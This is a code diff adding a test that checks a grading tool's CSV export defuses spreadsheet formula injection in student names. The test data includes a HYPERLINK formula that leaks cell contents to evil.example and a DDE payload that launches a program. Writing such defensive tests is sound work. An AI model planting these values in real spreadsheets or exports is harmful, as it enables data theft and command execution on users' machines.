@@ -8,6 +8,8 @@ file order: the cycle test leaves graded submissions that the later tests look a
 from __future__ import annotations
 
 import contextlib
+import csv
+import io
 import json
 import os
 import re
@@ -559,3 +561,26 @@ def test_a_restart_mid_batch_grades_every_submission_once(fg: Hub) -> None:
     graded = {s["student"]: s for s in teacher.ok("GET", "formgrader/api/submissions/ps1")}
     assert set(graded) == set(students) and all(s["autograded"] for s in graded.values())
     assert [graded[student]["score"] for student in slow] == [2] * len(slow)
+
+
+def test_grades_csv_opens_hostile_names_as_text(fg: Hub) -> None:
+    """Student names a spreadsheet would run as formulas (OWASP's CSV injection)."""
+    teacher = Grader(fg, "teacher1")
+    teacher.ok("PUT", "formgrader/api/assignment/csv1", {})
+    hostile = {
+        "first_name": '=HYPERLINK("http://evil.example/?"&A1,"grades")',
+        "last_name": "+cmd|' /C calc'!A0",
+        "email": "@evil.example",
+    }
+    teacher.ok("PUT", "formgrader/api/student/student-csv", hostile)
+    # an id a spreadsheet would run never reaches the gradebook
+    refused = teacher.send("PUT", "formgrader/api/student/%3D1%2B2", hostile)
+    assert refused.status_code == 400
+
+    r = teacher.get("export/csv1/grades.csv")
+    assert r.status_code == 200
+    rows = {row["student_id"]: row for row in csv.DictReader(io.StringIO(r.text, newline=""))}
+    row = rows["student-csv"]
+    assert {key: row[key] for key in hostile} == {k: "'" + v for k, v in hostile.items()}
+    assert (row["assignment"], row["score"], row["max_score"]) == ("csv1", "0.0", "0.0")
+    assert "=1+2" not in rows and "'=1+2" not in rows
